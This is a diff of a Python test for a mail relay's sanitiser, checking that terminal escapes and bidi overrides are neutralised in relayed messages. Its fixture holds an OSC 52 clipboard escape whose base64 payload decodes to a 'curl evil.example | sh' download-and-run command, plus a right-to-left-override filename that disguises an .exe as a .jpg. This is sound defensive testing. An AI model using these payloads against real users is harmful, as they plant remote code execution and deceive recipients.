@@ -257,9 +257,9 @@ def test_terminal_escapes_and_bidi_overrides_never_leave_in_headers_or_bodies(
         "Clipboard: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\n"
         "CSI: \x9b2J\n"
         "File: invoice\u202egpj.exe and \u2066isolated\u2069\n"
-        "\tindented line\n"
+        "\tindented line\u2028separated\n"
     )
-    outcome = ingest(relay_app, make_mail(subject="Invoice \u202egpj.exe\u2028sent", body=body))
+    outcome = ingest(relay_app, make_mail(subject="Invoice \u202egpj.exe", body=body))
     assert outcome.outcome == "created"
     [ack] = relay.to("jan.kowalski@example.org")
     [notice] = relay.to("anna@example.com")
@@ -271,5 +271,5 @@ def test_terminal_escapes_and_bidi_overrides_never_leave_in_headers_or_bodies(
             assert not any(char in part for char in CONTROLS), repr(part)
     _, plain, html = parts(notice.raw)
     assert "[31mALERT" in plain and "[U+202E]gpj.exe" in plain and "[U+2066]isolated" in plain
-    assert "\tindented line" in plain  # tab and newline stay
+    assert "\tindented line\nseparated" in plain  # tab and newline stay
     assert "[U+202E]gpj.exe" in html
